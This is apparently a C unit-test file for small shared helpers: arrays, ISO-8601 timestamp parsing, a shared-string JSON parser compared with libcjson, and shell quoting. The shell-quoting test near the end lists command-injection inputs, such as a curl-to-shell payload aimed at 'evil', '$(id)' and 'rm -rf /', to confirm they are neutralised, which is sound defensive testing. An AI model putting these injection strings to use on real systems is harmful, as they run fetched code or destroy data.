/*
 * The small shared helpers of src/util: the growable array (growth,
 * zero-filled pushes, release, sorting), the ISO-8601 parser on the
 * forms really seen (AWS, dmesg, journald, Slurm) and on bad input, the
 * "string in a cJSON array" test, the UTF-8 clip, and the parser that
 * builds trees with shared strings (hp_json_parse_shared) against libcjson.
 */
#include <limits.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "hp/array.h"
#include "hp/buf.h"
#include "hp/iso8601.h"
#include "hp/json.h"
#include "hp/pool.h"
#include "hp/text.h"
#include "hp/util.h"
#include "t.h"

struct item {
	int key;
	char name[8];
};

static void t_array_push_grows_and_zeroes(void)
{
	HP_ARRAY(struct item) a = HP_ARRAY_INIT;
	size_t i, last_alloc = 0, moves = 0;

	T_ASSERT(a.v == NULL && a.n == 0 && a.alloc == 0);
	for (i = 0; i < 1000; i++) {
		struct item *it = hp_array_push(&a);

		T_EQ(it->key, 0);
		T_STREQ(it->name, "");
		T_ASSERT(it == &a.v[i]);
		it->key = (int)i;
		it->name[0] = 'x';
		if (a.alloc != last_alloc) {
			/* Doubling: the room only ever doubles, starting at 8. */
			T_ASSERT(last_alloc == 0 ? a.alloc == 8 : a.alloc == 2 * last_alloc);
			last_alloc = a.alloc;
			moves++;
		}
		T_ASSERT(a.n <= a.alloc);
	}
	T_EQ(a.n, 1000);
	T_EQ(moves, 8); /* 8, 16, ..., 1024 */
	for (i = 0; i < a.n; i++)
		T_EQ(a.v[i].key, (int)i);
	hp_array_release(&a);
	T_ASSERT(a.v == NULL && a.n == 0 && a.alloc == 0);
	/* Reusable after release, and a reused slot is zero again. */
	hp_array_push(&a)->key = 7;
	a.n = 0;
	T_EQ(hp_array_push(&a)->key, 0);
	hp_array_release(&a);
}

static void t_array_append_reserve(void)
{
	HP_ARRAY(const char *) a = HP_ARRAY_INIT;
	struct { char **v; size_t n, alloc; } named = { NULL, 0, 0 };

	hp_array_reserve(&a, 100);
	T_ASSERT(a.alloc >= 100 && a.n == 0);
	{
		const char **before = a.v;
		int i;

		for (i = 0; i < 100; i++)
			hp_array_append(&a, "s");
		/* Reserved room: no move. */
		T_ASSERT(a.v == before);
	}
	T_EQ(a.n, 100);
	T_STREQ(a.v[99], "s");
	hp_array_release(&a);
	/* A struct written out with v, n, alloc works the same. */
	hp_array_append(&named, strdup("one"));
	T_STREQ(named.v[0], "one");
	free(named.v[0]);
	hp_array_release(&named);
}

static int int_cmp(const void *a, const void *b)
{
	int x = *(const int *)a, y = *(const int *)b;

	return (x > y) - (x < y);
}

static void t_array_sort(void)
{
	HP_ARRAY(int) a = HP_ARRAY_INIT;
	static const int in[] = { 5, -1, 3, 3, 0 };
	size_t i;

	/* Sorting an empty array never hands NULL to qsort. */
	hp_array_sort(&a, int_cmp);
	T_EQ(a.n, 0);
	for (i = 0; i < sizeof(in) / sizeof(in[0]); i++)
		hp_array_append(&a, in[i]);
	hp_array_sort(&a, int_cmp);
	T_EQ(a.v[0], -1);
	T_EQ(a.v[1], 0);
	T_EQ(a.v[2], 3);
	T_EQ(a.v[4], 5);
	hp_array_release(&a);
}

static void t_iso_forms_seen(void)
{
	static const struct {
		const char *in;
		long long sec;
		long nsec;
		int zoned;
	} cases[] = {
		/* AWS credential expirations (STS XML, credential_process, containers). */
		{ "2015-08-30T13:36:00Z", 1440941760, 0, 1 },
		{ "2016-01-01T00:00:00+00:00", 1451606400, 0, 1 },
		{ "2024-05-01T10:00:00.123Z", 1714557600, 123000000, 1 },
		{ "2024-05-01t10:00:00z", 1714557600, 0, 1 },
		/* dmesg --time-format iso: comma fraction, offset without a colon. */
		{ "2024-05-01T10:11:12,345678+0000", 1714558272, 345678000, 1 },
		/* journalctl -o short-iso with a real offset. */
		{ "2024-05-01T12:11:12+02:00", 1714558272, 0, 1 },
		{ "2024-05-01T05:41:12-0430", 1714558272, 0, 1 },
		{ "2024-05-01T12:11:12+02", 1714558272, 0, 1 },
		/* Slurm's local times carry no zone: read as UTC. */
		{ "2024-05-01T10:11:12", 1714558272, 0, 0 },
		{ "2024-05-01 10:11:12", 1714558272, 0, 0 },
		/* Nanoseconds kept, further digits dropped. */
		{ "1970-01-01T00:00:00.1234567891Z", 0, 123456789, 1 },
		/* Leap years, a leap second, and before 1970. */
		{ "2024-02-29T00:00:00Z", 1709164800, 0, 1 },
		{ "2016-12-31T23:59:60Z", 1483228800, 0, 1 },
		{ "1969-12-31T23:59:59Z", -1, 0, 1 },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct hp_iso8601 t;

		if (hp_iso8601_parse(cases[i].in, NULL, &t))
			T_FAILF("'%s' was refused", cases[i].in);
		if (t.sec != cases[i].sec || t.nsec != cases[i].nsec || t.zoned != cases[i].zoned)
			T_FAILF("'%s' read as %lld.%09ld zoned=%d, expected %lld.%09ld zoned=%d",
				cases[i].in, (long long)t.sec, t.nsec, t.zoned, cases[i].sec,
				cases[i].nsec, cases[i].zoned);
	}
}

static void t_iso_prefix_and_end(void)
{
	const char *line = "2024-05-01T10:11:12,5+00:00 ip-10-1-2-3 kernel: NVRM: Xid", *end = NULL;
	struct hp_iso8601 t;

	T_EQ(hp_iso8601_parse(line, &end, &t), 0);
	T_STREQ(end, " ip-10-1-2-3 kernel: NVRM: Xid");
	T_EQ(t.nsec, 500000000);
	/* Without end, trailing text is an error. */
	T_EQ(hp_iso8601_parse(line, NULL, &t), -1);
	/* "+02:" then text: the offset is the hours, the rest is left. */
	T_EQ(hp_iso8601_parse("2024-05-01T10:11:12+02:x", &end, &t), 0);
	T_STREQ(end, ":x");
}

static void t_iso_bad_input(void)
{
	static const char *const bad[] = {
		"", "2024", "2024-05-01", "2024-05-01T", "2024-05-01T10:11",
		"2024-5-01T10:11:12Z", "24-05-01T10:11:12Z", "2024-05-01X10:11:12Z",
		"2024-13-01T00:00:00Z", "2024-00-01T00:00:00Z", "2023-02-29T00:00:00Z",
		"2024-04-31T00:00:00Z", "2024-05-00T00:00:00Z", "2024-05-01T24:00:00Z",
		"2024-05-01T10:60:00Z", "2024-05-01T10:11:61Z", "2024-05-01T10:11:12.Z",
		"2024-05-01T10:11:12+2", "2024-05-01T10:11:12+24:00", "2024-05-01T10:11:12+02:60",
		"2024-05-01T10:11:12ZZ", "2024-05-01T10:11:12 UTC", "2024-05-01T10:11:12Z\n",
		"-024-05-01T10:11:12Z", "2024-05-01T1a:11:12Z", "soon",
	};
	struct hp_iso8601 t = { 42, 7, 9 };
	const char *end = "untouched";
	size_t i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (!hp_iso8601_parse(bad[i], NULL, &t))
			T_FAILF("'%s' was accepted", bad[i]);
	T_EQ(hp_iso8601_parse(NULL, &end, &t), -1);
	T_EQ(hp_iso8601_parse("2024-05-01", &end, &t), -1);
	/* Failure leaves the outputs alone. */
	T_EQ(t.sec, 42);
	T_STREQ(end, "untouched");
}

static void t_days_from_civil(void)
{
	T_EQ(hp_days_from_civil(1970, 1, 1), 0);
	T_EQ(hp_days_from_civil(2000, 3, 1), 11017);
	T_EQ(hp_days_from_civil(1969, 12, 31), -1);
	T_EQ(hp_days_from_civil(9999, 12, 31), 2932896);
}

static void t_json_has_str(void)
{
	cJSON *arr = cJSON_Parse("[\"sg-1\", 2, null, {\"sg-2\": 1}, \"sg-3\"]");
	cJSON *obj = cJSON_Parse("{\"a\": \"sg-1\"}");

	T_ASSERT(arr && obj);
	T_ASSERT(hp_json_has_str(arr, "sg-1"));
	T_ASSERT(hp_json_has_str(arr, "sg-3"));
	/* Only string elements count; members of nested objects do not. */
	T_ASSERT(!hp_json_has_str(arr, "sg-2"));
	T_ASSERT(!hp_json_has_str(arr, "2"));
	T_ASSERT(!hp_json_has_str(arr, "sg-"));
	/* An object is not an array, NULLs are no. */
	T_ASSERT(!hp_json_has_str(obj, "sg-1"));
	T_ASSERT(!hp_json_has_str(NULL, "sg-1"));
	T_ASSERT(!hp_json_has_str(arr, NULL));
	cJSON_Delete(arr);
	cJSON_Delete(obj);
}


/* The string table keeps each string once, numbers them in order and never moves a copy. */
static void t_strtab(void)
{
	struct hp_strtab t = HP_STRTAB_INIT;
	const char *first;
	char big[70000];
	uint32_t i, id;

	T_EQ(hp_strtab_adds(&t, "a"), 0);
	T_EQ(hp_strtab_adds(&t, "b"), 1);
	T_EQ(hp_strtab_adds(&t, "a"), 0);
	T_EQ(hp_strtab_add(&t, "abc", 1), 0);
	T_EQ(hp_strtab_add(&t, "bcd", 2), 2);
	T_STREQ(hp_strtab_get(&t, 2), "bc");
	T_EQ(hp_strtab_adds(&t, ""), 3);
	first = hp_strtab_get(&t, 0);
	for (i = 0; i < 20000; i++) {
		char s[32];

		snprintf(s, sizeof(s), "i-%017u", i);
		T_EQ(hp_strtab_adds(&t, s), i + 4);
	}
	memset(big, 'z', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	id = hp_strtab_adds(&t, big);
	T_EQ(hp_strtab_adds(&t, big), id);
	T_EQ(strlen(hp_strtab_get(&t, id)), sizeof(big) - 1);
	T_EQ(hp_strtab_adds(&t, "i-00000000000000017"), 21);
	/* The first copy is where it was, whatever was added after it. */
	T_ASSERT(hp_strtab_get(&t, 0) == first);
	T_STREQ(first, "a");
	T_EQ(t.n, 20005);
	T_ASSERT(hp_strtab_bytes(&t) > 20000 * 20);
	hp_strtab_release(&t);
	T_EQ(t.n, 0);
	T_EQ(hp_strtab_adds(&t, "again"), 0);
	hp_strtab_release(&t);
}

static void t_arena(void)
{
	struct hp_arena a = HP_ARENA_INIT;
	char *p = hp_arena_alloc(&a, 10), *q = hp_arena_alloc(&a, 100000), *r = hp_arena_alloc(&a, 3);

	/* Aligned pieces, one after the other in a chunk; a big one in a chunk of its own. */
	T_EQ((uintptr_t)p % 16, 0);
	T_EQ((uintptr_t)r % 16, 0);
	T_ASSERT(r == p + 16);
	memset(q, 1, 100000);
	T_EQ(a.nchunks, 2);
	hp_arena_release(&a);
	T_EQ(a.bytes, 0);
}

/* hp_text_clip: whole characters, "…" only when something was cut, idempotent. */
static void t_clip_utf8(void)
{
	char out[HP_CLIP_SIZE(4)], again[HP_CLIP_SIZE(4)];

	T_STREQ(hp_text_clip(NULL, 4, out), "");
	T_STREQ(hp_text_clip("abcd", 4, out), "abcd");
	T_STREQ(hp_text_clip("abcde", 4, out), "abcd\xE2\x80\xA6");
	/* é (2 bytes), € (3), 𝄞 (4) are one character each. */
	T_STREQ(hp_text_clip("\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9Ex", 3, out),
		"\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9E\xE2\x80\xA6");
	/* A fourth continuation byte starts a character of its own: a+3, then 4, then cut. */
	T_EQ(strlen(hp_text_clip("a\x80\x80\x80\x80\x80\x80\x80\x80", 2, out)), 8 + 3);
	/* Four 4-byte characters and more fill the buffer's size exactly: no overflow. */
	T_EQ(strlen(hp_text_clip("\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E"
				 "\xF0\x9D\x84\x9E\xF0\x9D\x84\x9E", 4, out)), 16 + 3);
	/* Clipping a clipped text changes nothing (the checks clip a stored entry again). */
	hp_text_clip("abcdefgh", 4, out);
	T_STREQ(hp_text_clip(out, 4, again), out);
}

/*
 * hp_json_parse_shared: names and short values point into the shared table,
 * the tree prints, compares, duplicates and deletes as libcjson's does, long
 * strings stay the tree's own.
 */
static void t_json_share(void)
{
	static const char text[] =
		"[{\"InstanceGroupName\":\"gpu-p5\",\"InstanceId\":\"i-0aaaaaaaaaaaaaaa1\","
		"\"InstanceStatus\":{\"Status\":\"Running\",\"Message\":\"\"},\"Count\":3,"
		"\"Tags\":[\"a\",\"b\"],\"Long\":\"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
		"xxxxxxxxxxxxxxxxxxxxxxxx\"},{\"InstanceGroupName\":\"gpu-p5\",\"InstanceStatus\":"
		"{\"Status\":\"Running\"}}]";
	cJSON *a = hp_json_parse_shared(text, strlen(text), NULL);
	cJSON *b = hp_json_parse_shared(text, strlen(text), NULL);
	cJSON *lib = cJSON_Parse(text), *dup, *n0, *n1;
	char *before = cJSON_PrintUnformatted(lib), *after;
	const cJSON *g0, *g1, *lng;

	T_ASSERT(a && b && lib);
	n0 = cJSON_GetArrayItem(a, 0);
	n1 = cJSON_GetArrayItem(b, 1);
	g0 = cJSON_GetObjectItemCaseSensitive(n0, "InstanceGroupName");
	g1 = cJSON_GetObjectItemCaseSensitive(n1, "InstanceGroupName");
	/* One copy of each name and value for both trees. */
	T_ASSERT(g0->string == g1->string);
	T_ASSERT(g0->valuestring == g1->valuestring);
	T_ASSERT((g0->type & cJSON_StringIsConst) && (g0->type & cJSON_IsReference));
	T_ASSERT(cJSON_IsString(g0));
	T_ASSERT(hp_json_str(n1, "InstanceStatus.Status") ==
		 hp_json_str(n0, "InstanceStatus.Status"));
	T_STREQ(hp_json_str(n0, "InstanceStatus.Status"), "Running");
	/* Array elements too. */
	T_STREQ(cJSON_GetArrayItem(hp_json_arr(n0, "Tags"), 1)->valuestring, "b");
	T_ASSERT(cJSON_GetArrayItem(hp_json_arr(n0, "Tags"), 1)->type & cJSON_IsReference);
	lng = cJSON_GetObjectItemCaseSensitive(n0, "Long");
	T_EQ(strlen(lng->valuestring), 72);
	T_ASSERT(!(lng->type & cJSON_IsReference));
	T_EQ(hp_json_num(n0, "Count", 0), 3);
	/* libcjson's document; appending finds the last element through child->prev. */
	after = cJSON_PrintUnformatted(a);
	T_STREQ(after, before);
	T_ASSERT(cJSON_Compare(a, lib, 1));
	cJSON_AddItemToArray((cJSON *)hp_json_arr(n0, "Tags"), cJSON_CreateString("c"));
	T_STREQ(cJSON_GetArrayItem(hp_json_arr(n0, "Tags"), 2)->valuestring, "c");
	T_EQ(hp_json_len(n0, "Tags"), 3);
	/* A copy owns its strings again. */
	dup = cJSON_Duplicate(a, 1);
	T_ASSERT(cJSON_Compare(dup, a, 1));
	T_ASSERT(!(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(dup, 0),
						     "InstanceGroupName")->type & cJSON_IsReference));
	/* Replacing a shared member, and deleting it all, frees what the trees own (ASan). */
	cJSON_ReplaceItemInObjectCaseSensitive(n0, "InstanceGroupName", cJSON_CreateString("cpu"));
	T_STREQ(hp_json_str(n0, "InstanceGroupName"), "cpu");
	cJSON_free(before);
	cJSON_free(after);
	cJSON_Delete(dup);
	cJSON_Delete(a);
	cJSON_Delete(b);
	cJSON_Delete(lib);
}

/* 1 when text parses with both parsers to trees that print alike, stopping at the same byte. */
static int parses_like_libcjson(const char *text)
{
	const char *e1 = NULL, *e2 = NULL;
	cJSON *x = hp_json_parse_shared(text, strlen(text), &e1);
	cJSON *y = cJSON_ParseWithOpts(text, &e2, 0);
	char *px = x ? cJSON_PrintUnformatted(x) : NULL, *py = y ? cJSON_PrintUnformatted(y) : NULL;
	int same = x && y && e1 == e2 && !strcmp(px, py);

	if (!same)
		fprintf(stderr, "# %s: %s vs %s\n", text, px ? px : "(refused)", py ? py : "(refused)");
	free(px);
	free(py);
	cJSON_Delete(x);
	cJSON_Delete(y);
	return same;
}

/* The grammar: escapes, surrogate pairs, numbers, literals, nesting, what follows a value. */
static void t_json_parse_shared_grammar(void)
{
	static const char *const same[] = {
		"{\"a\":\"\\u00e9\\u20ac\\ud83d\\ude00\",\"\\n\":\"\\\"\\\\\\/\\b\\f\\r\\t\"}",
		"[0,-0,1.5e3,-2E-2,2147483647,2147483648,-2147483649,1e400,0.1,-1.25e+2]",
		"[true,false,null,{},[],\"\",{\"\":\"\"},{\"k\":1,\"k\":2}]",
		" \t\r\n[ 1 , 2 ] \n", "\"tail\" x", "{\"esc\\u0041ped name\":{\"x\":\"a\\u00e9b\"}}",
		"{\"InstanceStatus\":{\"Status\":\"Running\",\"Message\":\"raw\ttab\"}}",
	};
	static const char *const refused[] = {
		"", " ", "[01]", "[1,]", "{\"a\" 1}", "{\"a\":1,}", "\"\\x\"", "\"\\ud800\"",
		"\"\\udc00\"", "\"\\ud800\\u0041\"", "\"\\u12\"", "\"open", "[1", "{\"a\":",
		"tru", "nul", "-", "1.", ".5", "1e", "+1", "\xef\xbb\xbf{}", "\x0c[]", "[\"a\"\"b\"]",
		"{1:2}",
	};
	const char *end = NULL;
	char deep[2 * (HP_JSON_DEPTH + 1) + 1];
	size_t i;
	cJSON *j;

	for (i = 0; i < sizeof(same) / sizeof(same[0]); i++)
		T_ASSERT(parses_like_libcjson(same[i]));
	for (i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
		j = hp_json_parse_shared(refused[i], strlen(refused[i]), &end);
		if (j)
			fprintf(stderr, "# accepted: %s\n", refused[i]);
		T_ASSERT(j == NULL);
		T_ASSERT(end >= refused[i] && end <= refused[i] + strlen(refused[i]));
		cJSON_Delete(j);
	}
	/* Where it failed, for the caller's message. */
	j = hp_json_parse_shared("{\"a\":[1,2,x]}", 13, &end);
	T_ASSERT(!j);
	T_EQ(*end, 'x');
	/* A \u0000 ends the string, as in libcjson; a raw NUL inside the length is refused. */
	j = hp_json_parse_shared("\"x\\u0000y\"", 10, NULL);
	T_STREQ(j ? j->valuestring : "", "x");
	cJSON_Delete(j);
	T_ASSERT(!hp_json_parse_shared("\"x\0y\"", 5, NULL));
	/* The length is the end: bytes after it are not read. */
	j = hp_json_parse_shared("[1,2]tail", 5, &end);
	T_EQ(cJSON_GetArraySize(j), 2);
	T_STREQ(end, "tail");
	cJSON_Delete(j);
	T_ASSERT(!hp_json_parse_shared("[1,2]", 4, NULL));
	/* valueint clamped as libcjson clamps it. */
	j = hp_json_parse_shared("[3000000000,-3000000000,7.9]", 28, NULL);
	T_EQ(cJSON_GetArrayItem(j, 0)->valueint, INT_MAX);
	T_EQ(cJSON_GetArrayItem(j, 1)->valueint, INT_MIN);
	T_EQ(cJSON_GetArrayItem(j, 2)->valueint, 7);
	cJSON_Delete(j);
	/* HP_JSON_DEPTH levels, not one more. */
	for (i = 0; i < HP_JSON_DEPTH; i++) {
		deep[i] = '[';
		deep[2 * HP_JSON_DEPTH - 1 - i] = ']';
	}
	j = hp_json_parse_shared(deep, 2 * HP_JSON_DEPTH, NULL);
	T_ASSERT(j != NULL);
	cJSON_Delete(j);
	memmove(deep + 1, deep, 2 * HP_JSON_DEPTH);
	deep[0] = '[';
	deep[2 * HP_JSON_DEPTH + 1] = ']';
	T_ASSERT(!hp_json_parse_shared(deep, 2 * HP_JSON_DEPTH + 2, NULL));
}

/* Numbers read without strtod are strtod's to the bit: generated ones on both sides of the fast path. */
static void t_json_numbers_match_strtod(void)
{
	unsigned long long x = 88172645463325252ULL;
	char text[80];
	int i;

	for (i = 0; i < 20000; i++) {
		unsigned long long m;
		int frac, e, len;
		double want;
		cJSON *j;

		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		m = x % (i % 2 ? 1000000000000000ULL : 100000000000000000ULL);
		frac = (int)((x >> 20) % 12);
		e = (int)((x >> 30) % 61) - 30;
		len = snprintf(text, sizeof(text), "%s%llu", (x >> 40) & 1 ? "-" : "", m);
		if (frac && len > frac + 1) {
			/* Put a decimal point frac digits from the end. */
			memmove(text + len - frac + 1, text + len - frac, (size_t)frac + 1);
			text[len - frac] = '.';
			len++;
		}
		if ((x >> 50) & 1)
			len += snprintf(text + len, sizeof(text) - (size_t)len, "e%d", e);
		want = strtod(text, NULL);
		j = hp_json_parse_shared(text, (size_t)len, NULL);
		if (!j || memcmp(&j->valuedouble, &want, sizeof(want)))
			fprintf(stderr, "# %s: %.17g vs strtod %.17g\n", text, j ? j->valuedouble : 0.0, want);
		T_ASSERT(j && !memcmp(&j->valuedouble, &want, sizeof(want)));
		cJSON_Delete(j);
	}
}

/* A list of n node summaries, as ListClusterNodes gives them (new text per call). */
static char *node_list(int n, int salt)
{
	struct hp_buf b;
	int i;

	hp_buf_init(&b, HP_MAX_HTTP_BODY);
	hp_buf_puts(&b, "{\"ClusterNodeSummaries\":[");
	for (i = 0; i < n; i++)
		hp_buf_printf(&b, "%s{\"InstanceGroupName\":\"gpu-p5\",\"InstanceId\":\"i-%017x\","
			    "\"InstanceStatus\":{\"Status\":\"Running\"},\"LaunchTime\":%d.5,"
			    "\"PrivateDnsHostname\":\"ip-10-4-%d-%d.us-west-2.compute.internal\"}",
			    i ? "," : "", (unsigned)(i * 7919 + salt), 1764000000 + i, i / 250, i % 250);
	hp_buf_puts(&b, "],\"NextToken\":null}");
	return hp_buf_detach(&b, NULL);
}

/*
 * A large shared tree is libcjson's tree, a node taken out of it outlives
 * the list, and many lists parsed and deleted in turn leave every item to
 * the allocator (ASan's leak check sees them all).
 */
static void t_json_shared_trees(void)
{
	char *text = node_list(2000, 1);
	cJSON *a = hp_json_parse_shared(text, strlen(text), NULL), *list, *kept, *lib;
	size_t loops;
	const cJSON *id;

	T_ASSERT(a != NULL);
	list = (cJSON *)hp_json_arr(a, "ClusterNodeSummaries");
	T_EQ(cJSON_GetArraySize(list), 2000);
	id = hp_json_get(cJSON_GetArrayItem(list, 1999), "InstanceId");
	/* Instance ids are new on every node: the tree's own copies, not the table's. */
	T_ASSERT(!(id->type & cJSON_IsReference));
	lib = cJSON_Parse(text);
	T_ASSERT(cJSON_Compare(a, lib, 1));
	cJSON_Delete(lib);
	kept = cJSON_DetachItemFromArray(list, 1000);
	cJSON_Delete(a);
	T_STREQ(hp_json_str(kept, "InstanceGroupName"), "gpu-p5");
	T_STREQ(hp_json_str(kept, "PrivateDnsHostname"), "ip-10-4-4-0.us-west-2.compute.internal");
	cJSON_Delete(kept);
	for (loops = 0; loops < 50; loops++) {
		free(text);
		text = node_list(2000, (int)loops + 2);
		a = hp_json_parse_shared(text, strlen(text), NULL);
		T_ASSERT(a != NULL);
		T_EQ(hp_json_len(a, "ClusterNodeSummaries"), 2000);
		cJSON_Delete(a);
	}
	free(text);
}

/* Trees parsed on one thread and deleted on another, four threads at once. */
#define HANDOFF_THREADS 4
#define HANDOFF_TREES 40

struct handoff {
	cJSON *tree[HANDOFF_TREES];
	int salt;
};

static void *parse_trees(void *arg)
{
	struct handoff *h = arg;
	int i;

	for (i = 0; i < HANDOFF_TREES; i++) {
		char *text = node_list(300, h->salt * 1000 + i);

		h->tree[i] = hp_json_parse_shared(text, strlen(text), NULL);
		free(text);
	}
	return NULL;
}

static void *delete_trees(void *arg)
{
	struct handoff *h = arg;
	int i;

	for (i = 0; i < HANDOFF_TREES; i++)
		cJSON_Delete(h->tree[i]);
	return NULL;
}

static void t_json_shared_threads(void)
{
	static struct handoff h[HANDOFF_THREADS];
	pthread_t t[HANDOFF_THREADS];
	int i, k, ok = 1;

	for (i = 0; i < HANDOFF_THREADS; i++) {
		h[i].salt = i + 1;
		T_EQ(pthread_create(&t[i], NULL, parse_trees, &h[i]), 0);
	}
	for (i = 0; i < HANDOFF_THREADS; i++)
		pthread_join(t[i], NULL);
	for (i = 0; i < HANDOFF_THREADS; i++)
		for (k = 0; k < HANDOFF_TREES; k++)
			ok &= h[i].tree[k] && hp_json_len(h[i].tree[k], "ClusterNodeSummaries") == 300;
	T_ASSERT(ok);
	/* Each thread deletes the trees another one parsed. */
	for (i = 0; i < HANDOFF_THREADS; i++)
		T_EQ(pthread_create(&t[i], NULL, delete_trees, &h[(i + 1) % HANDOFF_THREADS]), 0);
	for (i = 0; i < HANDOFF_THREADS; i++)
		pthread_join(t[i], NULL);
}

/* One function makes a value one shell word: plain as it is, anything else single-quoted. */
static void t_shell_word(void)
{
	static const struct { const char *in, *out; } cases[] = {
		{ "hp-demo", "hp-demo" },
		{ "arn:aws:sagemaker:us-west-2:123456789012:cluster/abc", "arn:aws:sagemaker:us-west-2:123456789012:cluster/abc" },
		{ "hp-demo;curl${IFS}evil|sh", "'hp-demo;curl${IFS}evil|sh'" },
		{ "a b", "'a b'" },
		{ "it's", "'it'\\''s'" },
		{ "$(id)", "'$(id)'" },
		{ "`id`", "'`id`'" },
		{ "x\nrm -rf /", "'x?rm -rf /'" },
		{ "*", "'*'" },
		{ "~root", "'~root'" },
		{ "", "''" },
		{ "caf\xc3\xa9", "'caf\xc3\xa9'" },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct hp_buf b = HP_BUF_INIT(256);
		char small[64];

		hp_shell_word(cases[i].in, &b);
		T_STREQ(b.buf, cases[i].out);
		T_STREQ(hp_shell_word_s(cases[i].in, small, sizeof(small)), cases[i].out);
		hp_buf_release(&b);
	}
	T_ASSERT(hp_shell_plain("us-west-2"));
	T_ASSERT(!hp_shell_plain("us west"));
	T_ASSERT(!hp_shell_plain(NULL));
}

T_MAIN(T(t_shell_word), T(t_array_push_grows_and_zeroes), T(t_array_append_reserve), T(t_array_sort),
       T(t_iso_forms_seen), T(t_iso_prefix_and_end), T(t_iso_bad_input), T(t_days_from_civil),
       T(t_json_has_str), T(t_strtab), T(t_arena), T(t_clip_utf8),
       T(t_json_share), T(t_json_parse_shared_grammar),
       T(t_json_numbers_match_strtod), T(t_json_shared_trees), T(t_json_shared_threads))
